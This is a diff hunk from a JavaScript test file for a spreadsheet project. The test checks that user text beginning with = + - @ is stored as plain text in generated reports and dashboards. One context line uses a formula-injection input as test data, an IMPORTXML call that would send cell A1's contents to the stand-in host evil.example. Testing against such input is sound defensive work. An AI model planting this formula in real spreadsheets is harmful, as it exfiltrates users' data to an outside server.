@@ -90,7 +90,7 @@ describe('SPEC §7 — user text starting with = + - @ is stored as text, as typ
   it('the report and the dashboard show them as text', () => {
     const emu = example();
     emu.book.setValues('Plan', 'D19', [['=IMPORTXML("http://evil.example/?"&A1;"//a")']]);
-    emu.book.setValues('Plan', 'F19', [['@Julien']]);
+    emu.book.setValues('Plan', 'M19', [['@Julien']]); // the Résultat of a done action: its own cell in the report (v2)
     emu.run('boussoleGenererRapportPour', '2026-10');
     emu.run('boussoleActualiserTableauDeBord');
     const values = emu.book.values('Rapport 2026-10').flat();
